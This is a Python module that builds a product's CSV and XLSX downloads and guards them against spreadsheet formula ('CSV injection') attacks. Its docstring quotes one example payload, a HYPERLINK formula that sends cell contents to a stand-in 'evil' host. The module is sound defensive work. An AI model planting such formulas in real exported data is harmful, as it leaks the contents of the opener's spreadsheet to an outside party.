"""Every spreadsheet file the product writes (CSV and XLSX) is made here, so none can carry a formula.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by Excel,
LibreOffice and Google Sheets when the file is opened (OWASP "CSV injection"): a distributor named
`=HYPERLINK("http://evil/?"&A1)` would otherwise leak a finance clerk's sheet. In CSV such a cell is
prefixed with an apostrophe, which spreadsheets read as "this is text" (a plain number such as `-5.00` is
left alone: it cannot run). In XLSX every text cell is written with the string type, which is never
evaluated, so its text stays exactly as it was; numbers are written as numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import Any

from django.http import HttpResponse
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

FORMATS = ("csv", "xlsx")
CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def escape_text(text: str) -> str:
    """The CSV form of a text cell: prefixed with ' when a spreadsheet would read it as a formula."""
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def _text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if hasattr(value, "isoformat"):
        return value.isoformat()
    return str(value)


def iter_csv(header: Sequence[str], rows: Iterable[Sequence[Any]], *, with_header: bool = True) -> Iterator[bytes]:
    """The CSV file line by line (for a streamed response, or a file written in parts): the header first
    unless `with_header` is False."""
    out = io.StringIO()
    writer = csv.writer(out)

    def line(cells: Sequence[Any]) -> bytes:
        out.seek(0)
        out.truncate()
        writer.writerow([escape_text(_text(cell)) for cell in cells])
        return out.getvalue().encode()

    if with_header:
        yield line(header)
    for row in rows:
        yield line(row)


def to_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    return b"".join(iter_csv(header, rows))


def to_xlsx(header: Sequence[str], rows: Iterable[Sequence[Any]], *, title: str = "export") -> bytes:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])

    def cell(value: Any) -> WriteOnlyCell:
        if isinstance(value, (int, Decimal)) and not isinstance(value, bool):
            return WriteOnlyCell(sheet, value=value)
        written = WriteOnlyCell(sheet, value=None)
        written.value, written.data_type = _text(value), "s"  # text, never a formula
        return written

    sheet.append([cell(name) for name in header])
    for row in rows:
        sheet.append([cell(value) for value in row])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def file_response(
    header: Sequence[str], rows: Iterable[Sequence[Any]], *, file_format: str, filename: str
) -> HttpResponse:
    """A download of the table as `file_format` (csv or xlsx), named `<filename>.<format>`."""
    if file_format == "xlsx":
        content = to_xlsx(header, rows, title=filename)
    elif file_format == "csv":
        content = to_csv(header, rows)
    else:
        raise ValueError(f"unknown export format {file_format!r}")
    response = HttpResponse(content, content_type=CONTENT_TYPES[file_format])
    response["Content-Disposition"] = f'attachment; filename="{filename}.{file_format}"'
    return response


def read_xlsx(content: bytes) -> list[list[Any]]:
    """The first sheet's rows as values (formulas are not evaluated: their cached values, or None). A file
    that is not a workbook is a ValueError."""
    try:
        workbook = load_workbook(io.BytesIO(content), read_only=True, data_only=True)
    except Exception as exc:
        raise ValueError(str(exc) or type(exc).__name__) from exc
    return [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]
